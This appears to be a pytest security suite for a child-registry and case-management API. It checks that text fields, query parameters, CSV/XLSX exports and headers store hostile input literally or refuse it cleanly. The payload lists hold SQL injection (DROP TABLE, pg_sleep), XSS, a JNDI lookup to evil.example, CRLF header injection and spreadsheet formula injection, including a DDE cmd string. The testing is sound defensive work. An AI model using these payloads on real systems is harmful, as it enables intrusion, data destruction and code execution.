"""OWASP API8 (injection) and API10 (unsafe consumption of what we hand on): hostile text in every text field and
query parameter is stored and returned verbatim, or refused cleanly with 4xx problem+json, and never interpreted:
not by PostgreSQL (SQL metacharacters, LIKE wildcards, NUL bytes), not by a spreadsheet opening an export
(formula injection), not by HTTP (header injection)."""

import csv
import io
import time
import uuid
from urllib.parse import quote

import httpx
import openpyxl
import pytest

from services.registry.reference import clean_text
from tests.cases.samples import intake
from tests.helpers import eventually
from tests.security.conftest import COMMUNE_B, World, full_child

PAYLOADS = {
    "sql quote": "Lan' OR '1'='1' --",
    "sql statement": "Lan'); DROP TABLE child; --",
    "sql sleep": "Lan'; SELECT pg_sleep(60); --",
    "backslashes": "Lan \\'; \\\\ \\x00",
    "like wildcards": "Lan %_% [a-z]*",
    "dollar quoting": "Lan $$ || chr(0) || $$",
    "templates": "Lan {{7*7}} ${7*7} #{7*7} ${jndi:ldap://evil.example/a}",
    "markup": "Lan <script>alert(1)</script> \"><img src=x onerror=alert(1)>",
    "bidi override": "Lan \u202eolleh",
    "zero width": "Lan zero\u200bwidth\u200djoin\ufeff",
    "astral": "Lan 👶🏽 𝐓𝐡𝐞 \U0010fffd",
    "combining": "Lan Nguye\u0302\u0303n",
    "line separators": "Lan\u2028line\u2029sep\u0085",
    "crlf": "Lan\r\nSet-Cookie: session=evil",
    "nul": "Lan\x00Anh",
    "control": "Lan\x07\x1b[31mred",
}


def stored_as(sent: str, *, name: bool) -> str:
    """What a field must read back as: the registry's one spelling of the text (Unicode NFC, invisible formatting
    characters removed, each run of spaces one space, trimmed: `clean_text`), never an interpretation of it."""
    return clean_text(sent)


def refused_cleanly(response: httpx.Response) -> bool:
    return response.status_code in (400, 422) and response.headers["content-type"].startswith(
        "application/problem+json")


@pytest.mark.parametrize("payload", list(PAYLOADS))
async def test_hostile_text_in_a_child_record_is_kept_verbatim_or_refused(world: World, payload: str) -> None:
    text = PAYLOADS[payload]
    body = full_child(COMMUNE_B, full_name=text, address=text, school_name=text,
                      guardians=[{"full_name": text, "relationship": "mother"}])
    started = time.monotonic()
    created = await world.client.post("/registry/v1/children", json=body, headers=world.b.officer)
    assert time.monotonic() - started < 20  # far below the minute an injected pg_sleep would take
    if refused_cleanly(created):
        return
    assert created.status_code == 201, (created.status_code, created.text[:300])
    read = (await world.client.get(f"/registry/v1/children/{created.json()['id']}", headers=world.b.officer)).json()
    assert read["full_name"] == stored_as(text, name=True)
    assert read["guardians"][0]["full_name"] == stored_as(text, name=True)
    assert read["address"] == stored_as(text, name=False) and read["school_name"] == stored_as(text, name=False)


@pytest.mark.parametrize("payload", list(PAYLOADS))
async def test_hostile_text_in_an_intake_and_a_note_is_kept_verbatim_or_refused(world: World, payload: str) -> None:
    text = PAYLOADS[payload]
    body = intake(COMMUNE_B, description=text, reporter={"anonymous": False, "name": text, "relationship": text},
                  child={"first_name": text, "place": text})
    created = await world.client.post("/cases/v1/cases", json=body, headers=world.b.officer)
    if not refused_cleanly(created):
        assert created.status_code == 201, (created.status_code, created.text[:300])
        case = (await world.client.get(f"/cases/v1/cases/{created.json()['id']}", headers=world.b.officer)).json()
        assert case["description"] == text and case["reporter"]["name"] == text
        assert case["child"]["first_name"] == text and case["child"]["place"] == text
    note = await world.client.post(f"/cases/v1/cases/{world.b.case['id']}/notes", json={"text": text},
                                   headers=world.b.officer)
    if not refused_cleanly(note):
        assert note.status_code == 201, (note.status_code, note.text[:300])
        assert note.json()["text"] == text


QUERIES = ["%", "_", "%%", "' OR 1=1 --", "\\", "Lan%", "a_b", "\x00", "*", "(", "Lan\x00' --", "\u202e", "%00",
           "Robert'); DROP TABLE child; --"]


async def test_hostile_queries_are_answered_literally_or_refused(world: World) -> None:
    client, officer = world.client, world.b.officer
    for q in QUERIES:
        found = await client.get("/registry/v1/children", params={"q": q}, headers=officer)
        assert found.status_code == 200 or refused_cleanly(found), (q, found.status_code)
        if found.status_code == 200:
            # A wildcard is a character to look for, not a pattern that matches every name.
            assert world.b.child["id"] not in [c["id"] for c in found.json()["items"]], q
        for path, name, headers in (("/registry/v1/locations/convert", "address", officer),
                                    ("/cases/v1/cases", "cursor", officer), ("/cases/v1/cases", "state", officer),
                                    ("/reporting/v1/values", "indicator", world.statistician),
                                    ("/reporting/v1/values", "breakdown", world.statistician),
                                    ("/reporting/v1/values", "location", world.statistician)):
            params = {name: q} | ({"period": "2026"} if path.startswith("/reporting") else {})
            response = await client.get(path, params=params, headers=headers)
            assert response.status_code < 500, (path, name, q, response.text[:200])
            assert response.status_code in (200, 404) or refused_cleanly(response), (path, name, q)
    for period in QUERIES:
        if any(ord(c) < 32 for c in period):
            continue  # control characters in a path: test_control_characters_in_a_path_are_refused_cleanly
        response = await client.get(f"/reporting/v1/reports/{quote(period, safe='')}", headers=world.statistician)
        assert response.status_code in (400, 404, 422), (period, response.status_code)


FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"Lan\")", "+Lan 1+1", "-Lan 2+3", "@Lan SUM(1)",
            "=cmd|' /C calc'!A0 Lan"]


async def test_exports_never_hand_a_spreadsheet_a_formula(world: World) -> None:
    commune = COMMUNE_B
    for formula in FORMULAS:
        created = await world.client.post("/registry/v1/children", headers=world.b.officer,
                                          json=full_child(commune, address=formula, school_name=formula))
        assert created.status_code == 201, created.text
    # A control character that survived into a record must not break the spreadsheet export either.
    control = await world.client.post("/registry/v1/children", headers=world.b.officer,
                                      json=full_child(commune, address="Lan\x07 Chuông\x1b[0m"))
    assert control.status_code in (201, 422), control.text
    export = await world.client.get("/registry/v1/children/export", params={"commune_code": commune},
                                    headers=world.b.officer)
    assert export.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    for formula in FORMULAS:
        assert formula not in cells and f"'{formula}" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    xlsx = await world.client.get("/registry/v1/children/export", params={"commune_code": commune, "format": "xlsx"},
                                  headers=world.b.officer)
    assert xlsx.status_code == 200, xlsx.text
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert {f"'{formula}" for formula in FORMULAS} <= {c.value for c in values}


async def test_the_import_error_report_never_hands_a_spreadsheet_a_formula(world: World) -> None:
    hostile = "=HYPERLINK(\"http://evil.example\",\"x\")"
    upload = f"full_name,sex,date_of_birth,commune_code,{hostile}\nLan,{hostile},2016-01-01,{COMMUNE_B},x\n"
    job = await world.client.post("/registry/v1/imports", files={"file": ("=evil.csv", upload.encode())},
                                  data={"mode": "row_by_row"}, headers=world.b.officer)
    assert job.status_code == 202, job.text
    url = f"/registry/v1/imports/{job.json()['id']}"

    async def finished() -> bool:
        status = (await world.client.get(url, headers=world.b.officer)).json()["status"]
        return status in ("succeeded", "failed")

    await eventually(finished, timeout=60)
    report = await world.client.get(f"{url}/errors", headers=world.b.officer)
    assert report.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(report.text)) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


async def test_control_characters_in_an_import_are_refused_row_by_row(world: World) -> None:
    officer = world.b.officer
    upload = (f"full_name,sex,date_of_birth,commune_code\nLan\x00Anh,female,2016-01-01,{COMMUNE_B}\n"
              f"Mai\x1bHoa,female,2016-01-02,{COMMUNE_B}\n").encode()
    mapped = await world.client.post("/registry/v1/imports", files={"file": ("list.csv", upload)},
                                     data={"mapping": '{"full_name": "full_name\\u0000"}'}, headers=officer)
    assert refused_cleanly(mapped), (mapped.status_code, mapped.text[:200])
    job = await world.client.post("/registry/v1/imports", files={"file": ("list.csv", upload)},
                                  data={"mode": "row_by_row"}, headers=officer)
    assert job.status_code == 202, job.text
    url = f"/registry/v1/imports/{job.json()['id']}"

    async def finished() -> bool:
        return (await world.client.get(url, headers=officer)).json()["status"] in ("succeeded", "failed")

    await eventually(finished, timeout=60)
    result = (await world.client.get(url, headers=officer)).json()
    # Each bad row is reported as such; the file as a whole did not stop on an unexpected error.
    assert result["failure"] is None and result["error_count"] == 2 and result["created_count"] == 0, result


async def test_a_file_in_another_encoding_than_declared_fails_with_its_reason(world: World) -> None:
    officer = world.b.officer
    without_bom = f"full_name,sex,date_of_birth,commune_code\nLan,female,2016-01-01,{COMMUNE_B}\n".encode("utf-16-le")
    job = await world.client.post("/registry/v1/imports", files={"file": ("list.csv", without_bom)},
                                  data={"encoding": "utf-16"}, headers=officer)
    assert job.status_code == 202, job.text
    url = f"/registry/v1/imports/{job.json()['id']}"

    async def finished() -> bool:
        return (await world.client.get(url, headers=officer)).json()["status"] in ("succeeded", "failed")

    await eventually(finished, timeout=60)
    result = (await world.client.get(url, headers=officer)).json()
    assert result["status"] == "failed" and "not valid utf-16" in result["failure"], result


async def test_headers_cannot_be_injected(world: World) -> None:
    officer = world.b.officer
    echoed = await world.client.get("/registry/v1/children", headers=officer | {
        "X-Request-ID": "<script>alert(1)</script>"})
    assert echoed.status_code == 200 and "<" not in echoed.headers["x-request-id"]
    for key in ("a b", "x" * 201, "tab\there"):
        response = await world.client.post("/cases/v1/cases", json=intake(COMMUNE_B),
                                           headers=officer | {"Idempotency-Key": key})
        assert refused_cleanly(response), (key, response.status_code)
    for if_match in ("*", "W/\"1\"", "\"1\", \"2\"", "garbage", "\"" + "9" * 100 + "\""):
        response = await world.client.post(f"/cases/v1/cases/{world.b.case['id']}/actions/start_review", json={},
                                           headers=officer | {"If-Match": if_match})
        assert response.status_code in (412, 422, 428), (if_match, response.status_code)
    # The attachment name of an export comes from the validated commune code, never from free text.
    export = await world.client.get("/registry/v1/children/export", params={"commune_code": COMMUNE_B},
                                    headers=officer)
    assert export.headers["content-disposition"] == f'attachment; filename="children-{COMMUNE_B}.csv"'


async def test_non_ascii_header_values_are_refused_cleanly(world: World) -> None:
    key = f"khóa-{uuid.uuid4()}".encode()
    response = await world.client.post("/cases/v1/cases", json=intake(COMMUNE_B),
                                       headers=world.b.officer | {"Idempotency-Key": key})  # type: ignore[dict-item]
    assert refused_cleanly(response), response.status_code


async def test_control_characters_in_a_path_are_refused_cleanly(world: World) -> None:
    """The gateway forwards the path as it arrived (percent-encoded): decoded, it could not be a URL at all."""
    for path in (f"/registry/v1/children/{quote(chr(13) + 'x', safe='')}", "/reporting/v1/reports/2026%00",
                 "/cases/v1/cases/%0D%0ASet-Cookie:%20a=b"):
        headers = world.statistician if "reporting" in path else world.b.officer
        response = await world.client.get(path, headers=headers)
        assert response.status_code in (400, 404, 422), (path, response.status_code)


async def test_nul_in_sign_in_and_user_administration_is_refused_cleanly(world: World) -> None:
    signed_in = await world.client.post("/auth/token", data={"grant_type": "password", "username": "demo\x00",
                                                             "password": "x"})
    assert signed_in.status_code in (400, 401, 422), signed_in.status_code
    created = await world.client.post("/admin/v1/users", headers=await world.api.as_demo("admin"), json={
        "username": f"sec{uuid.uuid4().hex[:10]}", "password": f"pw-{uuid.uuid4().hex}", "display_name": "An\x00",
        "role": "police_officer", "jurisdiction": {"level": "province", "province": "01"}})
    assert refused_cleanly(created), created.status_code
